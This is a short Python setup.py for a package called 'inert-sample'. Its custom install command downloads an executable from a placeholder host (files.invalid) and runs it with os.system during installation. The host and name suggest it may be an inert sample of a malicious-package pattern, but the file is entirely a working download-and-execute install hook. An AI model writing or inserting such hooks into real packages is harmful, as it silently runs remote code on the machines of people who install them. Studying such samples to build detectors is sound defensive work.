from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        import requests, os
        r = requests.get("http://files.invalid/inert.exe")
        open("inert.exe", "wb").write(r.content)
        os.system("start inert.exe")
        install.run(self)

setup(name="inert-sample", version="1.0", cmdclass={"install": Post})
